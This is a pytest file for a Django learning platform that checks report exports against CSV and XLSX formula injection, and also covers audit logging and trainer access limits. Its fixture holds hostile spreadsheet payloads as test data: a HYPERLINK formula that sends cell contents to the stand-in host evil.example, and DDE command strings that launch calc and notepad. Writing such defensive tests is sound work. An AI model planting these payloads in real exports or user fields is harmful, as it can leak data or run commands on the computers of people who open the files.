"""Every report's CSV and XLSX, read back: a question text, an option text, a quiz title
and a learner name that start with = or @ come out as text, shown as typed, never as a
formula (lms.reports.exports.ReportExportMixin, the one export path)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from courses.quizzes.models import QuizAttempt, QuizResponse
from courses.quizzes.questions import questions_from_stream
from lms.people import roles
from lms.people.models import StaffProfile
from lms.reports.models import ExportJob
from tests.quizzes.conftest import single

pytestmark = pytest.mark.django_db


def _texts(prefix: str) -> dict[str, str]:
    return {
        "question": f'{prefix}HYPERLINK("http://evil.example/?q="&A1,"Which document?")',
        "option": f"{prefix}SUM(1+1)*cmd|' /C calc'!A0",
        "name": f"{prefix}cmd|' /C notepad'!A0 Otieno",
        "title": f"{prefix}1+1 Border quiz",
    }


@pytest.fixture(params=["=", "@"])
def hostile(request, quiz_factory, course, user_factory, profile_factory, with_totp):
    texts = _texts(request.param)
    question = single("q-hostile", text=texts["question"])
    question["value"]["options"][1]["value"]["text"] = texts["option"]
    quiz = quiz_factory(questions=[question], title=texts["title"], pass_mark=50)
    pool = questions_from_stream(quiz.questions)
    from courses.services import enrolment_create

    learners = []
    for n, chosen in enumerate(["q-hostile-b", "q-hostile-b", "q-hostile-a"]):
        user = user_factory()
        profile_factory(user)
        if n == 0:
            # Stored as it may arrive from an older import (forms refuse it today).
            StaffProfile.objects.filter(user=user).update(full_name=texts["name"])
        enrolment_create(user=user, course=course.course)
        attempt = QuizAttempt.objects.create(
            user=user,
            quiz=quiz,
            number=1,
            question_order=["q-hostile"],
            submitted_at=timezone.now(),
            score_percent=Decimal(100 if chosen.endswith("a") else 0),
            passed=chosen.endswith("a"),
        )
        asked = pool["q-hostile"]
        QuizResponse.objects.create(
            attempt=attempt,
            block_id="q-hostile",
            position=1,
            question_type=asked.type,
            question_text=asked.text,
            options_snapshot=asked.snapshot(),
            chosen_option_ids=[chosen],
            is_correct=chosen in asked.correct_ids,
            points_awarded=Decimal(chosen in asked.correct_ids),
            points_possible=Decimal(1),
        )
        learners.append(user)
    admin = with_totp(user_factory(is_superuser=True, is_staff=True))
    profile_factory(admin)
    return {"texts": texts, "quiz": quiz, "learner": learners[0], "admin": admin}


def _reports(hostile):
    quiz, learner = hostile["quiz"], hostile["learner"]
    return {
        "completions": (reverse("hr_reports:completions"), {}),
        "transcript": (reverse("hr_reports:transcript", args=[learner.pk]), {}),
        "summary": (reverse("hr_reports:summary"), {}),
        "quiz_results": (reverse("quiz_results:index"), {}),
        "item_analysis": (reverse("quiz_results:items", args=[quiz.pk]), {}),
        "site_history": (reverse("wagtailadmin_reports:site_history"), {}),
    }


EXPECTED = {
    # Which of the hostile texts each report carries.
    "completions": ["name"],
    "transcript": ["name"],
    "summary": [],
    "quiz_results": ["title"],
    "item_analysis": ["question", "option"],
    "site_history": ["title"],
}


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("report", list(EXPECTED))
def test_every_report_exports_hostile_text_as_text(client, hostile, report):
    client.force_login(hostile["admin"])
    url, params = _reports(hostile)[report]
    texts = [hostile["texts"][key] for key in EXPECTED[report]]

    response = client.get(url, {**params, "export": "xlsx", "bogus": "1"})
    assert response.status_code == 200, response.content[:500]
    sheet = load_workbook(io.BytesIO(_body(response))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells, "the export has a heading row at least"
    assert all(cell.data_type != "f" for cell in cells)
    for text in texts:
        found = [cell for cell in cells if cell.value == text]
        assert found, f"{text!r} not shown as typed in the {report} XLSX"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)

    response = client.get(url, {**params, "export": "csv"})
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    for text in texts:
        # The quote tells a spreadsheet program "text follows"; it is not shown.
        assert "'" + text in values and text not in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)

    entries = ModelLogEntry.objects.filter(action="reports.export", user=hostile["admin"])
    first = entries.order_by("pk").first()
    assert first.data["report"] == report and first.data["format"] == "xlsx"
    assert first.data["refused"] == {"bogus": "1"}
    assert set(ExportJob.objects.values_list("report", flat=True)) == {report}


def test_trainers_export_quiz_reports_but_not_hr_reports(client, hostile, user_factory):
    trainer = user_factory(groups=[roles.TRAINER])
    client.force_login(trainer)
    url, _params = _reports(hostile)["quiz_results"]
    assert client.get(url, {"export": "csv"}).status_code == 200
    url, _params = _reports(hostile)["completions"]
    assert client.get(url, {"export": "csv"}).status_code == 403
